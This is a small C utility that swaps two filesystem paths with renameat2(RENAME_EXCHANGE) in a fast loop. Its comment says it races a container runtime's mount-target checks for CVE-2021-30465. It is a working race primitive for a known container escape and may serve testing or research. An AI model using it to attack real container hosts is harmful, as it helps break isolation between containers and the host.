/* xchg - swap two paths with renameat2(RENAME_EXCHANGE) in a loop.
 *
 * Usage: xchg PATH1 PATH2 N
 * Exchanges PATH1 and PATH2 N times (N <= 100000000) as fast as it can, then prints the number
 * of successful exchanges.  Used to race a runtime's mount-target checks (CVE-2021-30465);
 * an even N leaves both paths as they were. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv)
{
  if (argc != 4) {
    fprintf(stderr, "usage: xchg PATH1 PATH2 N\n");
    return 2;
  }
  char *end = NULL;
  errno = 0;
  long n = strtol(argv[3], &end, 10);
  if (errno || end == argv[3] || *end || n < 0 || n > 100000000) {
    fprintf(stderr, "xchg: bad count `%s'\n", argv[3]);
    return 2;
  }
  long ok = 0, last_err = 0;
  for (long i = 0; i < n; i++) {
    if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0)
      ok++;
    else
      last_err = errno;
  }
  printf("%ld\n", ok);
  if (ok == 0 && n > 0) {
    fprintf(stderr, "xchg: renameat2 `%s' <-> `%s': %s\n", argv[1], argv[2],
            strerror((int)last_err));
    return 1;
  }
  return 0;
}
